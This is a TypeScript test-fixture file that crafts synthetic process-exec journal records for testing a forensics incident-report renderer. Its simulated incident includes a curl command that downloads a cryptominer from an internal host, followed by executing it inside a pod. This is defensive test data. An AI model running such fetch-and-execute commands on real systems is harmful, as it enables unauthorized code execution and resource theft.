import { createHash } from 'node:crypto';
import type { ReportInput, ReportRecord } from '../../../forensics/report/render.ts';
import { BOOT_ID } from '../ids.ts';

const START_NS = 1_795_400_191_000_000_000n;

/** What a test says about a record; the rest is as the agent writes it. */
export interface Craft {
  readonly id?: string;
  /** milliseconds after the first one */
  readonly ms?: number;
  readonly cause?: string | null;
  readonly pid?: number;
  readonly uid?: number;
  readonly args?: readonly string[];
  readonly object?: string;
  readonly pod?: string;
  readonly resource?: Readonly<Record<string, unknown>>;
  readonly attributes?: Readonly<Record<string, unknown>>;
}

/** The id of the n-th crafted record. */
export function idOf(n: number): string {
  const hex = createHash('sha1').update(`${n}`).digest('hex');
  return `${hex.slice(0, 8)}-${hex.slice(8, 12)}-5${hex.slice(13, 16)}-8${hex.slice(17, 20)}-${hex.slice(20, 32)}`;
}

/** An exec as a journal has it; without a cause, a gap. */
export function exec(n: number, craft: Craft = {}): ReportRecord {
  const { ms = n, cause = null, pid = 1000 + n, uid = 0, args = ['true'], pod } = craft;
  const object = craft.object ?? `/usr/bin/${args[0]}`;
  const gap = { 'vcml.gap.reason': 'predates_hook', 'vcml.gap.ancestor.pid': 1 };
  return {
    id: craft.id ?? idOf(n),
    timestamp: START_NS + BigInt(ms) * 1_000_000n + 657_708n,
    actor: { pid, ppid: 1, uid, gid: uid, comm: (args[0] ?? '').slice(0, 15) },
    action: 'exec',
    object,
    permitted_by: cause === null ? 'unobserved_parent' : 'parent_process_context',
    parent_cause: cause,
    resource: {
      'host.name': 'node-1',
      'os.type': 'linux',
      ...(pod && {
        'k8s.namespace.name': 'shop',
        'k8s.pod.name': pod,
        'k8s.container.name': 'app',
      }),
      ...craft.resource,
    },
    attributes: {
      'vcml.boot.id': BOOT_ID,
      'vcml.boot_time': `${9_600_000_000_000 + n}`,
      'vcml.hook.id': '9597161883763',
      'vcml.cpu': n % 2,
      'vcml.seq': Math.floor(n / 2) + 1,
      ...(cause === null && gap),
      'process.vpid': pid,
      'process.creation.time': `2026-11-23T02:16:31.${String(n % 1_000_000_000).padStart(9, '0')}Z`,
      'process.executable.path': object,
      'process.executable.name': object.slice(object.lastIndexOf('/') + 1),
      'vcml.executable.inode': `${247_493 + (n % 97)}`,
      'vcml.executable.device': '254:0',
      'vcml.executable.mode': '0755',
      'process.args_count': args.length,
      'process.command': args[0],
      'process.command_args': args,
      'process.working_directory': '/tmp/work',
      'process.user.id': uid,
      'process.saved_user.id': uid,
      'vcml.process.effective_group.id': uid,
      'vcml.process.session_id': 10_000,
      'vcml.process.capabilities.effective': '0000000000000000',
      'vcml.namespace.pid': '4026531836',
      'vcml.namespace.mnt': '4026531832',
      'vcml.namespace.net': '4026531833',
      'vcml.namespace.user': '4026531837',
      'vcml.namespace.cgroup': '4026531835',
      'process.linux.cgroup': '0::/kubepods.slice/kubepods-burstable.slice/cri-containerd.scope',
      ...craft.attributes,
    },
  };
}

/** A loss as a journal has it. */
export function loss(n: number, count: number, ms = n): ReportRecord {
  return {
    ...exec(n, { ms, args: ['vcml-agent'] }),
    action: 'journal.loss',
    permitted_by: 'root_event:journal.loss',
    attributes: {
      'vcml.loss.stage': 'ring_buffer',
      'vcml.loss.cpu': 0,
      'vcml.loss.first_seq': 10,
      'vcml.loss.last_seq': 9 + count,
      'vcml.loss.count': count,
    },
  };
}

/** A report of these records. */
export function inputOf(
  records: readonly ReportRecord[],
  more: Partial<ReportInput> = {},
): ReportInput {
  return {
    title: 'A report',
    selection: '--pod shop/cart',
    generatedFrom: { inputs: [{ path: 'node-1.jsonl', records: records.length, skippedLines: 0 }] },
    records,
    ...more,
  };
}

/** A small incident: an exec into a pod, a tool from the upper layer, a loop, a loss, a gap. */
export function incident(): readonly ReportRecord[] {
  const pod = 'cart-7d9f-x2x';
  const entry = { 'vcml.entry': 'exec' };
  const upper = { 'vcml.executable.upper_layer': true };
  return [
    exec(0, { args: ['bash'], uid: 1000, attributes: { 'vcml.gap.ancestor.comm': 'sshd' } }),
    exec(1, { cause: idOf(0), args: ['sh', '-c', './backup now'], uid: 1000 }),
    exec(2, { cause: idOf(1), args: ['tar', '-cf', '-', 'notes.txt'], uid: 1000 }),
    exec(3, { ms: 200, args: ['runc', 'init'], attributes: { 'vcml.gap.ancestor.comm': 'shim' } }),
    exec(4, { ms: 300, cause: idOf(3), pod, args: ['sh'], attributes: entry }),
    exec(5, {
      ms: 900,
      cause: idOf(4),
      pod,
      args: ['curl', '-o', '/tmp/miner', 'http://10.0.0.9/m'],
    }),
    exec(6, {
      ms: 950,
      cause: idOf(4),
      pod,
      object: '/tmp/miner',
      args: ['./miner', '-q'],
      attributes: upper,
    }),
    ...Array.from({ length: 12 }, (_, n) =>
      exec(7 + n, { ms: 1000 + n * 20, cause: idOf(6), pod, args: ['sleep', '0.02'] }),
    ),
    loss(19, 298, 1300),
    exec(20, {
      ms: 1310,
      pod,
      args: ['id'],
      attributes: { 'vcml.gap.reason': 'lost', 'vcml.gap.ancestor.pid': undefined },
    }),
    exec(21, { ms: 1400, cause: 'ffffffff-0000-5000-8000-000000000000', args: ['cron', '-f'] }),
  ];
}

/** Many records in chains and bushes, as a busy node makes them. */
export function many(count: number): readonly ReportRecord[] {
  return Array.from({ length: count }, (_, n) =>
    exec(n, {
      ms: n * 7,
      cause: n % 500 === 0 ? null : idOf(n - (n % 5 === 0 ? 5 : n % 5)),
      uid: n % 3 === 0 ? 0 : 1000,
      args: [['sh', 'ls', 'grep', 'sed', 'awk'][n % 5] ?? '', `--number=${n}`, `/data/file-${n}`],
      ...(n % 4 !== 0 && { pod: `web-${n % 40}` }),
    }),
  );
}
